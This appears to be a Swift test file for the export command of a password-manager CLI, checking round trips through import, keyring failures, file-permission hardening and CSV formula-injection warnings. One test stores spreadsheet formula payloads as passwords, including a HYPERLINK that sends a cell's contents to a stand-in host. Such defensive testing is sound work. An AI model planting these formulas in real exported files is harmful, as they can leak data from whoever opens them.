import Foundation
import TestSupport
import Testing

/// `export` with the built binary against a real keyring: the round trip through `import` into
/// an empty book (whose backends must exist), and an export that reads every secret before it
/// writes any: it warns of a password the keyring lost, and writes nothing when a secret cannot
/// be read, nor when stdout cannot be written.
@Suite(.blocking) struct ExportTests {
  @Test func exportWithPasswordsIntoAnEmptyBookGivesBackTheSameAccounts() throws {
    let sourceWorld = try Fixture().addingBackend("corp").addingBackend("lab")
    defer { sourceWorld.close() }
    let source = sourceWorld.sandbox
    let passwords = ["alice": "a,b \"c\"\nd", "bob@example.com": " spaced ", "carol": "plain"]
    try source.ok(["add", "alice@corp", "--remember", "--password-stdin"], stdin: "placeholder\n")
    let hostile = try source.file("account,password\nalice,\"a,b \"\"c\"\"\nd\"\n", name: "alice.csv")
    try source.ok(["import", hostile, "--backend", "corp", "--update"])
    try source.ok(["add", "bob@example.com@lab", "--remember", "--password-stdin"], stdin: " spaced \n")
    try source.ok(["add", "carol@lab", "--remember", "--password-stdin"], stdin: "plain\n")
    try source.ok(["add", "dave@corp"])
    try source.ok(["tag", "alice", "qa", "smoke"])
    try source.ok(["tag", "dave", "qa"])

    let plain = try source.ok(["export"])
    #expect(plain.standardError == "", "no warning without passwords")
    #expect(
      plain.standardOutput == "account,password,backend,tags,otp\r\nalice@corp,,corp,qa smoke,\r\n"
        + "bob@example.com@lab,,lab,,\r\ncarol@lab,,lab,,\r\ndave@corp,,corp,qa,\r\n")
    let tagged = try source.ok(["export", "--tag", "qa", "--tag", "smoke"]).standardOutput
    #expect(tagged == "account,password,backend,tags,otp\r\nalice@corp,,corp,qa smoke,\r\n")

    let exported = try source.ok(["export", "--with-passwords"])
    #expect(exported.standardError.hasPrefix("accounts: warning: the output holds passwords and OTP seeds in clear text"))
    let targetWorld = try Fixture().addingBackend("corp").addingBackend("lab")
    defer { targetWorld.close() }
    let target = targetWorld.sandbox
    let imported = try target.ok(["import", "-"], stdin: exported.standardOutput)
    #expect(imported.standardError == "stdin: imported 4, updated 0, skipped 0, failed 0\n", "\(imported)")
    #expect(try target.tagsByAccount() == source.tagsByAccount())
    for (user, password) in passwords { #expect(try target.password(user) == password + "\n", "\(user)") }
    #expect(try target.run(["password", "dave"]).status == 3, "no password exported, none remembered")
    #expect(try target.invariantViolations() == [])

    let json = try #require(try source.json(["export", "--with-passwords", "--json", "--tag", "smoke"]) as? [[String: Any]])
    #expect(json.count == 1 && json.first?["password"] as? String == passwords["alice"])
    #expect(json.first?["tags"] as? [String] == ["qa", "smoke"])
  }

  @Test func exportThatCannotBeWrittenFails() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    try sandbox.ok(["add", "alice"])
    for redirect in ["> /dev/full", ">&-"] {
      let result = try sandbox.shell("\"$ACCOUNTS\" export \(redirect)")
      #expect(result.status == 1, "\(result)")
      #expect(result.standardError.hasPrefix("accounts: cannot write to stdout"), "\(result)")
    }
  }

  @Test func anExportIntoABookWithoutItsBackendsSaysToAddThem() throws {
    let sourceWorld = try Fixture().addingBackend("corp")
    defer { sourceWorld.close() }
    let source = sourceWorld.sandbox
    try source.ok(["add", "alice", "--remember", "--password-stdin"], stdin: "pw\n")
    let exported = try source.ok(["export", "--with-passwords"]).standardOutput
    let targetWorld = try Fixture()
    defer { targetWorld.close() }
    let target = targetWorld.sandbox
    let result = try target.run(["import", "-"], stdin: exported)
    #expect(result.status == 2, "\(result)")
    #expect(
      result.standardError.hasPrefix(
        "accounts: stdin: line 2: no backend 'corp'; add it first with `accounts backend add corp --adapter A` "
          + "(export does not carry backends)\n"), "\(result)")
  }

  @Test func exportWarnsOfAPasswordTheKeyringLostAndExitsThreeWithTheWholeOutput() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    try sandbox.ok(["add", "alice", "--remember", "--password-stdin"], stdin: "a-pw\n")
    try sandbox.ok(["add", "bob", "--remember", "--password-stdin"], stdin: "b-pw\n")
    let cleared = try runProcess(
      "/usr/bin/secret-tool", ["clear", "backend", "corp", "account", "alice", "kind", "password"],
      environment: sandbox.environment, timeout: 20)
    #expect(cleared.status == 0)
    let result = try sandbox.run(["export", "--with-passwords"])
    #expect(result.status == 3, "\(result)")
    #expect(
      result.standardOutput == "account,password,backend,tags,otp\r\nalice@corp,,corp,,\r\nbob@corp,b-pw,corp,,\r\n",
      "the whole output, alice's password empty")
    #expect(
      result.standardError.hasSuffix(
        "accounts: warning: alice@corp's remembered password is not in the keyring; its password field is empty\n"),
      "\(result)")
  }

  @Test func exportWritesNothingWhenASecretCannotBeRead() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    for user in ["alice", "bob"] { try sandbox.ok(["add", user, "--remember", "--password-stdin"], stdin: "pw\n") }
    let replaced = try sandbox.shell(
            #"printf 'b\377d' | secret-tool store --label=x xdg:schema io.accounts.Secret backend corp account bob kind password"#)
    #expect(replaced.status == 0, "\(replaced)")
    let notText = try sandbox.run(["export", "--with-passwords"])
    #expect(notText.status == 1, "\(notText)")
    #expect(notText.standardOutput == "", "\(notText)")
    #expect(notText.standardError.contains("the password of bob@corp is not UTF-8 text"), "\(notText)")

    try sandbox.ok(["lock"])
    let locked = try sandbox.run(["export", "--with-passwords"], timeout: 30)
    #expect(locked.status == 7, "\(locked)")
    #expect(locked.standardOutput == "", "\(locked)")
  }

  /// A password a spreadsheet would run as a formula is written as it is (import reads it back
  /// exactly), with a warning naming its line, never the password; --spreadsheet-safe writes it
  /// with a ' in front, in quotes.
  @Test func fieldsASpreadsheetWouldRunAreNamedAndTheSafeFormDisarmsThem() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    let passwords = ["alice": "=HYPERLINK(\"http://x/\"&B3)", "bob": "plain", "carol": "@SUM(1)", "+44": "-1+2"]
    for user in passwords.keys.sorted() {
      try sandbox.ok(["add", user, "--remember", "--password-stdin"], stdin: passwords[user]! + "\n")
    }
    let verbatim = try sandbox.ok(["export", "--with-passwords"])
    #expect(
      verbatim.standardOutput == "account,password,backend,tags,otp\r\n+44@corp,-1+2,corp,,\r\n"
        + "alice@corp,\"=HYPERLINK(\"\"http://x/\"\"&B3)\",corp,,\r\nbob@corp,plain,corp,,\r\ncarol@corp,@SUM(1),corp,,\r\n")
    #expect(
      verbatim.standardError.contains(
        "accounts: warning: a spreadsheet would run these fields as formulas (they start with =, +, -, @, a tab or a "
          + "carriage return): line 2 (+44@corp: account, password), line 3 (alice@corp: password), line 5 (carol@corp: password); "
          + "to open the file in one, export with --spreadsheet-safe\n"), "\(verbatim)")
    #expect(!verbatim.standardError.contains("SUM") && !verbatim.standardError.contains("HYPERLINK"))

    let safe = try sandbox.ok(["export", "--with-passwords", "--spreadsheet-safe"])
    #expect(
      safe.standardOutput == "account,password,backend,tags,otp\r\n\"'+44@corp\",\"'-1+2\",corp,,\r\n"
        + "alice@corp,\"'=HYPERLINK(\"\"http://x/\"\"&B3)\",corp,,\r\nbob@corp,plain,corp,,\r\ncarol@corp,\"'@SUM(1)\",corp,,\r\n")
    #expect(!safe.standardError.contains("warning: a spreadsheet"), "\(safe)")
    #expect(safe.standardError.contains("written with a ' in front for a spreadsheet (import would keep it): line 2"))

    let target = try Fixture().addingBackend("corp")
    defer { target.close() }
    try target.sandbox.ok(["import", "-"], stdin: verbatim.standardOutput)
    for (user, password) in passwords { #expect(try target.sandbox.password(user) == password + "\n", "\(user)") }
  }

  /// `> file` under umask 022 makes a file anyone may read: an export with passwords makes it
  /// 0600 before writing them and says so; a file it did not just get (appended to) keeps its
  /// mode, with a warning. Under `> file 2>&1` stderr is the same new file: the warnings written
  /// into it do not make it look like a file appended to, and nobody who exported into a new
  /// file is told to export into a new file.
  @Test func aFileOthersCouldReadIsMadePrivateBeforeThePasswordsAreWritten() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    try sandbox.ok(["add", "alice", "--remember", "--password-stdin"], stdin: "alice-pw\n")
    let path = sandbox.keyring.root + "/backup.csv"
    let fresh = try sandbox.shell("umask 022; \"$ACCOUNTS\" export --with-passwords > '\(path)'")
    #expect(fresh.status == 0, "\(fresh)")
    #expect(fresh.standardError.contains("stdout is a file others could read (mode 0644): made it 0600 before writing the passwords\n"), "\(fresh)")
    let mode = try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
    #expect(mode == 0o600)
    #expect(try String(contentsOfFile: path, encoding: .utf8).contains("alice@corp,alice-pw,"))

    try FileManager.default.setAttributes([.posixPermissions: 0o640], ofItemAtPath: path)
    let appended = try sandbox.shell("\"$ACCOUNTS\" export --with-passwords >> '\(path)'")
    #expect(appended.status == 0, "\(appended)")
    #expect(appended.standardError.contains("accounts: warning: stdout is a file others can read (mode 0640), and now holds passwords"), "\(appended)")
    #expect(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int == 0o640, "not ours to change")

    let both = try sandbox.shell("umask 022; \"$ACCOUNTS\" export --with-passwords > '\(path).both' 2>&1")
    #expect(both.status == 0, "\(both)")
    #expect(try FileManager.default.attributesOfItem(atPath: path + ".both")[.posixPermissions] as? Int == 0o600)
    let written = try String(contentsOfFile: path + ".both", encoding: .utf8)
    #expect(written.contains("alice@corp,alice-pw,"), "\(written)")
    #expect(written.contains("warning: the output holds passwords"), "\(written)")
    #expect(written.contains("made it 0600 before writing the passwords"), "\(written)")
    #expect(!written.contains("export into a new file"), "\(written)")

    let plain = try sandbox.shell("umask 022; \"$ACCOUNTS\" export > '\(path).plain'")
    #expect(plain.standardError.isEmpty, "no passwords, nothing to say: \(plain)")
    #expect(try FileManager.default.attributesOfItem(atPath: path + ".plain")[.posixPermissions] as? Int == 0o644)
  }

  /// A stdout file another user owns is theirs to read (and to chmod), whatever its mode now.
  @Test(.enabled(if: getuid() == 0, "needs root to give a file away (CI runs as root)"))
  func anotherUsersFileIsWarnedAbout() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    try sandbox.ok(["add", "alice", "--remember", "--password-stdin"], stdin: "alice-pw\n")
    let path = sandbox.keyring.root + "/theirs.csv"
    try #require(FileManager.default.createFile(atPath: path, contents: Data(), attributes: [.posixPermissions: 0o600]))
    try #require(chown(path, 65534, 65534) == 0)
    let result = try sandbox.shell("\"$ACCOUNTS\" export --with-passwords > '\(path)'")
    #expect(result.status == 0, "\(result)")
    #expect(
      result.standardError.contains(
        "accounts: warning: stdout is another user's file (uid 65534, mode 0600), and now holds passwords that user can "
          + "read: export into a file of your own\n"), "\(result)")
    let attributes = try FileManager.default.attributesOfItem(atPath: path)
    #expect(attributes[.posixPermissions] as? Int == 0o600 && attributes[.ownerAccountID] as? Int == 65534, "not ours to change")
  }

  /// The lines the spreadsheet warning names are the lines a row starts on, after a password
  /// with line breaks made an earlier row span several (as `import` and an editor count them).
  @Test func theSpreadsheetWarningNamesTheLineARowStartsOn() throws {
    let world = try Fixture().addingBackend("corp")
    defer { world.close() }
    let sandbox = world.sandbox
    let multiline = try sandbox.file("account,password\nalice,\"one\ntwo\nthree\"\n", name: "alice.csv")
    try sandbox.ok(["import", multiline])
    try sandbox.ok(["add", "bob", "--remember", "--password-stdin"], stdin: "=1+1\n")
    let result = try sandbox.ok(["export", "--with-passwords"])
    let lines = result.standardOutput.split(omittingEmptySubsequences: false) { $0 == "\n" || $0 == "\r\n" }
    #expect(lines.count > 4 && lines[4].hasPrefix("bob@corp,=1+1,"), "\(result.standardOutput)")
    #expect(result.standardError.contains(": line 5 (bob@corp: password);"), "\(result)")
  }
}
